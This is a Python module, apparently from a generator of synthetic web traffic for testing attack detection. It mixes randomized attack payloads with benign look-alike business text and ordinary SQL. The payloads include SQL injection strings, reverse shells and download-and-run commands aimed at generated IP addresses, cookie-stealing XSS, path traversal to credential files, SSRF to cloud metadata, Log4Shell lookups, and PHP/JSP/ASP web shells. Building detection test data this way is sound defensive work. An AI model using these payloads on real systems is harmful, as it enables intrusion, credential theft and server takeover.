"""What attackers put into requests, and the texts of ordinary business that hold the same words."""

from __future__ import annotations

import base64
from typing import Callable

from generator.world import World


def _sql(world: World) -> str:
    """Unions and conditions; what waits or provokes errors has slots of its own, for it goes by another name."""
    number = world.number(1, 9999)
    return world.pick((
        f"-{number} UNION ALL SELECT {','.join(['NULL'] * world.number(2, 9))},CONCAT(0x71,user(),0x71)#", f"1 and ord(mid((select group_concat(schema_name) from information_schema.schemata),{world.number(1, 30)},1))>{world.number(40, 120)}", f"{number}' union select 1,2,group_concat(username,0x3a,password) from t_user%23",
        f"{number} and 1=(select top 1 name from master..sysdatabases)", f"{number}%df' or 1=1 limit 1,1#", f"{number}' and ascii(substr((select password from sys_user limit 1),{world.number(1, 9)},1))>{world.number(40, 120)}-- -", f"{number}' AND {number}={number} AND 'a'='a", f"{number}') or (select count(*) from all_users)>0--",
        f"{number}' and utl_inaddr.get_host_address((select banner from v$version where rownum=1)) is not null--", f"{number}' rlike (select (case when ({number}={number}) then 1 else 0x28 end))-- a",
    ))  # fmt: skip


def _waiting(world: World) -> str:
    number, seconds = world.number(1, 9999), world.number(3, 12)
    return world.pick((
        f"{number}' AND (SELECT {number} FROM (SELECT(SLEEP({seconds})))a)-- -", f"{number};WAITFOR DELAY '0:0:{seconds}'--", f"{number}' || (SELECT CASE WHEN (1=1) THEN pg_sleep({seconds}) ELSE '' END)--", f"(select*from(select(sleep({seconds})))b)", f"if(ascii(substr(database(),1,1))>{world.number(90, 120)},sleep({seconds}),0)",
        f"{number}') OR BENCHMARK({seconds}000000,MD5(1))#", f"{number}' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),{seconds})--", f"{number}'xor(if(now()=sysdate(),sleep({seconds}),0))xor'z",
    ))  # fmt: skip


def _faulty(world: World) -> str:
    number = world.number(1, 9999)
    return world.pick((
        f"{number}') OR EXTRACTVALUE({number},CONCAT(0x5c,0x71,(SELECT version())))--", f"{number}'/**/and/**/updatexml(1,concat(0x7e,(select/**/user())),1)#", f"{number}' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)--", f"{number} and 1=convert(int,(select @@version))--", f"{number}' and exp(~(select*from(select user())a))--",
        f"{number}' and (select 1 from (select count(*),concat(database(),floor(rand(0)*2))x from information_schema.tables group by x)a)-- -", f"{number}' and ctxsys.drithsx.sn(1,(select user from dual))=1--", f"{number} and 1=cast((select version()) as int)--", f"{number}' and gtid_subset(concat(0x7e,user()),{number})#",
    ))  # fmt: skip


def _command(world: World) -> str:
    address = world.ip()
    return world.pick((
        "id", "whoami", "cat /etc/passwd", "uname -a", "ipconfig /all", "net user", f"wget http://{address}/{world.word(4)}.sh -O- | sh", f"curl -fsSL http://{address}:{world.number(80, 9999)}/{world.word(5)}|bash", f"bash -i >& /dev/tcp/{address}/{world.port()} 0>&1", f"ping -c 2 {world.word(8)}.dnslog.cn", f"nc {address} {world.port()} -e /bin/sh",
        f"certutil -urlcache -f http://{address}/{world.word(5)}.exe c:\\windows\\temp\\{world.word(4)}.exe", f"powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://{address}/{world.word(3)}')", f"echo {world.word(8)}>/tmp/{world.word(4)}", "ls -la /", "type c:\\windows\\win.ini", f"cd /tmp;tftp -g -r {world.word(5)} {address};chmod 777 {world.word(5)}", f"nslookup {world.word(6)}.{world.word(5)}.oast.me",
    ))  # fmt: skip


def _outside(world: World) -> str:
    return world.pick((f"{world.word(10)}.dnslog.cn", f"{world.word(8)}.oast.fun", f"{world.word(12)}.ceye.io", f"{world.ip_public()}:{world.port()}", f"{world.ip_public()}", f"{world.word(6)}.{world.word(9)}.xyz"))


def _script(world: World) -> str:
    number = world.number(1, 99999)
    return world.pick((
        f"<script>alert({number})</script>", f"\"><svg onload=prompt({number})>", f"<img src=x onerror=fetch('//{_outside(world)}/?c='+document.cookie)>", f"<ScRiPt>confirm`{number}`</sCrIpT>", f"'\"><iframe srcdoc='<script>alert({number})</script>'>", "<details open ontoggle=alert(document.domain)>", f"javascript:eval(atob('{base64.b64encode(b'alert(1)').decode()}'))",
        f"<a onmouseover=\"location='//{_outside(world)}/'+document.cookie\">x</a>", f"<video><source onerror=alert({number})></video>", "<marquee onstart=alert(1)>", f"<script src=//{_outside(world)}/x.js></script>", "<math><mtext><img src onerror=alert`1`>", "\" autofocus onfocus=alert(1) x=\"",
    ))  # fmt: skip


def _up(world: World) -> str:
    return world.pick(("../", "..%2f", "%2e%2e/", "..%252f", "....//", "..\\", "..%5c", "..%c0%af", "/%2e%2e", ".%00./")) * world.number(3, 10)


def _secret(world: World) -> str:
    return world.pick("etc/passwd etc/shadow windows/win.ini windows/system32/drivers/etc/hosts proc/self/environ root/.ssh/id_rsa WEB-INF/web.xml WEB-INF/classes/jdbc.properties etc/nginx/nginx.conf proc/self/cmdline root/.bash_history boot.ini inetpub/wwwroot/web.config usr/local/tomcat/conf/tomcat-users.xml".split())


def _inside(world: World) -> str:
    return world.pick((
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://100.100.100.200/latest/meta-data/ram/", f"http://127.0.0.1:{world.pick((22, 6379, 2375, 9200, 8500, 11211))}/", "file:///etc/passwd", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall", "dict://localhost:6379/info", f"http://{_outside(world)}/{world.word(4)}", "http://[::ffff:127.0.0.1]:80/", "file:///c:/windows/win.ini", "http://2130706433/", "netdoc:///etc/hosts", f"ldap://{_outside(world)}/a",
    ))  # fmt: skip


def _lookup(world: World) -> str:
    end = f"{_outside(world)}/{world.word(4)}"
    return world.pick((f"${{jndi:ldap://{end}}}", f"${{jndi:rmi://{end}}}", f"${{${{::-j}}${{::-n}}di:ldap://{end}}}", f"${{${{lower:j}}${{upper:n}}${{lower:d}}i:dns://{end}}}", f"${{${{env:X:-j}}ndi${{env:X:-:}}ldap://{end}}}", f"${{jndi:ldap://127.0.0.1#{end}}}", f"${{jndi:ldaps://${{sys:java.version}}.{end}}}", f"${{jnd${{sys:SYS_NAME:-i}}:ldap://{end}}}"))


def _page(world: World) -> str:
    return world.pick(("<?php @eval($_POST['a']);?>", "<?php system($_GET[0]);?>", "<%if(request.getParameter(\"p\")!=null)Runtime.getRuntime().exec(request.getParameter(\"p\"));%>", "<%@ Page Language=\"C#\"%><%System.Diagnostics.Process.Start(\"cmd.exe\",\"/c \"+Request[\"c\"]);%>", "<?=`{$_REQUEST[1]}`;", "<%execute(request(\"z\"))%>", "GIF89a<?php assert($_POST[x]);?>", "<?php $f='as'.'sert';$f($_REQUEST['q']);?>", "<%@page import=\"javax.crypto.*\"%><%!class U extends ClassLoader{}%><%new U(this.getClass().getClassLoader());%>"))


def _talk(world: World) -> str:
    """What people write in tickets, orders and articles: words that rules look for."""
    return world.pick((
        "Please select the right item and drop the union fee from my order", "O'Neill & Sons -- invoice #1 or #2?", "请尽快从系统里删除(delete)重复的订单, 谢谢", "id=7 and status=open returns nothing", "server says 500; exec of the backup script failed", "The <b>script</b> for the play is attached", "how to update table set of chairs where the legs are broken", "cat /etc/passwd explained for beginners", "请选择 select 后再 update 库存",
        "price < 100 && stock > 5", "alert: pump 3 is down", "wget or curl? which is better for downloads", "O''Brien; 5 o'clock", "Fehler: Datei ../vorlagen/rechnung.docx fehlt", "ping 10.0.0.1 works, ssh doesn't", "l'insert de la notice (page 3) est absent", "case when broken then replace; else keep", "50% off -- today only /* summer */", "报错: You have an error in your SQL syntax near '1=1'", "sleep(5) in our test job is too short", "#1 rated, 'best of' list; order by price", "java.lang.NullPointerException at com.app.Order.getId",
    ))  # fmt: skip


def _table(world: World) -> str:
    return world.pick("t_order sys_user v_stock biz_contract t_device crm_customer hr_employee log_visit dict_area wms_bin".split())


def _query(world: World) -> str:
    """SQL as report pages and table widgets send it in the course of their work."""
    table = _table(world)
    return world.pick((
        f"select count(*) as cnt from {table} where create_time >= '{world.local():%Y-%m-%d}'", f"SELECT id, name, status FROM {table} WHERE status IN ('1','2') ORDER BY id DESC LIMIT 20", f"select a.id,b.name from {table} a left join dict_area b on a.area_id=b.id where 1=1 and a.deleted=0", f"select sum(amount) total, dept from {table} group by dept having sum(amount)>{world.number(1, 9999)}",
        f"SELECT * FROM (SELECT t.*, ROWNUM rn FROM {table} t) WHERE rn BETWEEN 1 AND 20", f"select to_char(create_time,'yyyy-mm') m, count(1) from {table} group by to_char(create_time,'yyyy-mm')", f"with c as (select * from {table}) select * from c where name like '%{world.pick(('阀', 'pump', '张'))}%'", f"select distinct type from {table} union all select '全部'",
    ))  # fmt: skip


payloads: dict[str, Callable[[World], object]] = {
    "sqli": _sql, "waiting": _waiting, "faulty": _faulty, "cmd": _command, "outside": _outside, "xss": _script, "up": _up, "secret": _secret, "inside": _inside, "lookup": _lookup, "page": _page, "talk": _talk, "query": _query, "table": _table,
    "coded": lambda world: base64.b64encode(_command(world).encode()).decode(), "blob": lambda world: base64.b64encode(bytes(world.number(0, 255) for _ in range(world.number(48, 160)))).decode(),
}  # fmt: skip
